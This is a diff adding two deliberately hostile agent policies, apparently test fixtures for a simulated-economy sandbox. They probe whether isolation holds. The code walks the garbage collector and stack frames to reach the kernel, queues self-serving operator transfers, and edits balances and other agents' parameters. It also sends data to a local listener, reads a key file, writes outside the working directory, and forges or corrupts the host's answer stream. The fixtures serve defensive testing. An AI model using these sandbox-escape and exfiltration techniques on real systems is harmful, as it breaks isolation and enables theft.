@@ -1,0 +1,111 @@
+"""A hostile policy: from `act()` it tries to reach the economy and the machine. It records
+what it managed in files under `report` (which exists only when it runs in the runner's
+process) and raises an error naming every attempt that failed, so a host reports them.
+
+mode: `steal` queues an operator transfer to itself through the runner it finds; `tamper`
+also writes balances and another agent's parameters directly; `idle` attacks nothing."""
+
+import gc
+import json
+import socket
+import sys
+
+from sandbank.agents import Agent, policy
+
+
+@policy("byo_hostile", params={"mode": "steal", "port": 0, "target": "", "amount": 50_000,
+                               "secret": ""})
+class Hostile(Agent):
+    def act(self, obs):
+        p = self.params
+        if p["mode"] == "idle":
+            return []
+        failed, done = [], []
+        # 1. the kernel and the runner, through the garbage collector and the frames
+        found = [o for o in gc.get_objects()
+                 if type(o).__name__ in ("Kernel", "LabEconomy")]
+        frame = sys._getframe()
+        while frame is not None:
+            found += [v for v in frame.f_locals.values()
+                      if type(v).__name__ in ("Kernel", "LabEconomy")]
+            frame = frame.f_back
+        econ = next((o for o in found if type(o).__name__ == "LabEconomy"), None)
+        if econ is None:
+            failed.append("no kernel or runner in reach")
+        elif obs.tick % 5 == 0:
+            from sandbank.kernel.schema import OPERATOR, Transfer, TransferSpec
+
+            led = econ.k.state.ledger
+            mine = led.account_of(self.id, "CRD").id
+            econ.submit(Transfer(actor=OPERATOR, transfers=[TransferSpec(
+                id=10_000_000 + obs.tick, debit=led.treasury["CRD"], credit=mine,
+                amount=p["amount"])]))
+            done.append("queued an operator transfer")
+            others = [a for a in econ.agents if a.id != self.id]
+            if others:
+                done.append(f"read agent {others[0].id}'s parameters {sorted(others[0].params)}")
+            if p["mode"] == "tamper":
+                led.account_of(self.id, "CRD").credits_posted += 1
+                if others:
+                    others[0].params["max_qty"] = 0
+                done.append("edited balances and parameters")
+        # 2. the network
+        try:
+            with socket.create_connection(("127.0.0.1", p["port"]), timeout=1) as s:
+                s.sendall(b"exfiltrated")
+            done.append("sent to the listener")
+        except OSError as e:
+            failed.append(f"network: {type(e).__name__}")
+        # 3. the disk: the run's key file, and a folder outside its working directory
+        loot = "pwned"
+        try:
+            with open(p["secret"]) as f:
+                loot = f.read()
+            done.append("read the run key")
+        except OSError as e:
+            failed.append(f"key: {type(e).__name__}")
+        try:
+            with open(f"{p['target']}/written-at-{obs.tick}", "w") as f:
+                f.write(loot)
+            done.append("wrote a file")
+        except OSError as e:
+            failed.append(f"disk: {type(e).__name__}")
+        if failed:
+            raise PermissionError("blocked: " + "; ".join(failed))
+        return []
+
+
+@policy("byo_forger", params={"mode": "forge", "victim": 1})
+class Forger(Agent):
+    """Attacks the host's channel to the runner itself: it finds the host's answer stream
+    and writes to it — an answer for an agent of another owner (`forge`), a frame header
+    promising 4 GB (`huge`), bytes that are not JSON (`garbage`); or it returns an action
+    in another agent's name (`impersonate`)."""
+
+    def act(self, obs):
+        import io
+        import struct
+
+        from sandbank.markets.exchange import PlaceOrder
+
+        p = self.params
+        if p["mode"] == "impersonate":
+            return [PlaceOrder(actor=p["victim"], asset="WGT", side="sell", qty=1, price=1)]
+        seen, frame = [], sys._getframe()
+        while frame is not None:  # up to the host's main loop, which holds the stream
+            seen += list(frame.f_locals.values())
+            frame = frame.f_back
+        stream = next((o for o in seen if isinstance(o, io.FileIO) and o.mode == "wb"
+                       and not o.closed), None)
+        if stream is None:
+            raise LookupError("no answer stream here")
+        if p["mode"] == "forge":
+            order = {"kind": "place_order", "actor": p["victim"], "asset": "WGT", "side": "sell",
+                     "qty": 1, "price": 1}
+            body = json.dumps({"answers": [{"agent": p["victim"], "actions": [order]}]}).encode()
+            stream.write(struct.pack(">I", len(body)) + body)
+        elif p["mode"] == "huge":
+            stream.write(struct.pack(">I", 0xFFFFFFF0))
+        elif p["mode"] == "garbage":
+            stream.write(struct.pack(">I", 5) + b"\x80abcd")
+        return []
